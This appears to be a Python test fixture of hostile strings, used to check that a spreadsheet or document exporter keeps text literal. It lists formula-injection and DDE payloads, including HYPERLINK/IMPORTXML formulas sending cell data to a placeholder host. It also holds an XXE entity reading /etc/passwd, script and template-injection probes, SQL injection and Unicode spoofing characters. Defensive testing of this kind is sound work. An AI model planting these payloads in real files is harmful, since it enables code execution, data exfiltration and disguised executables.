"""Texts that try to be more than texts, and those that try to look like others."""

from __future__ import annotations

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=SUM(A1:A9)}",
    "＝1+1",
    "\t=1+1",
    "\t\tdua tab di depan",
    "baris satu\n=1+1\n@SUM(A1)",
    "'=1+1",
    '"=1+1"',
    "%0A=1+1",
    "#REF!",
    "#NAME?",
    "TRUE",
    "1E5",
    "1/2",
    "01.02",
    "0012",
]
LINKS = [
    "http://x.example/a?b=c&d=e#f",
    "https://x.example",
    "ftp://x.example/berkas",
    "file:///C:/Windows/System32/calc.exe",
    "file://server/bagian/berkas.xlsx",
    "\\\\server\\bagian\\berkas.xlsx",
    "internal:Data!A1",
    "external:lain.xlsx#Sheet1!A1",
    "#Data!A1",
    "mailto:",
    "javascript:alert(1)",
    "[tautan](http://x.example)",
]
MARKUP = [
    '<a href="http://x.example">klik</a>',
    "<script>alert(1)</script>",
    "</t></si></sst>",
    "]]><!-- -->",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp; &lt;b&gt; &#65; &nbsp;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{pesan} {0} {sel!r} %s %(x)s",
    "_x0041_",
    "_x000D_ dan _x0000_ dan _xD800_",
    "&P dan &A di kaki",
    "&[Path]&[File]",
    "\"kutip\" 'tunggal' `balik` \\n \\u0041 %41",
    "; DROP TABLE nilai; --",
    "spasi di belakang  dan  ganda",
    "é e\u0301 ﬁ Ω Ω 你好 🙂",
    "NULL",
    "None",
    "nan",
    "x" * 30_000,
]
HOSTILE = FORMULAS + LINKS + MARKUP
"""Texts that may be typed: each must arrive as exactly these letters."""

HIDDEN = [
    "laporan\u202exslx.exe",
    "\u202dkiri\u202c",
    "\u2066terasing\u2069",
    "\u200edari WhatsApp",
    "nol\u200blebar",
    "gabung\u200dan",
    "\ufefftanda urutan",
    "po\u00adsyandu",
    "\u061c",
    "\u2060kata",
    "\U000e0041tersembunyi",
]
"""Texts that read otherwise than they are: none of them travels."""
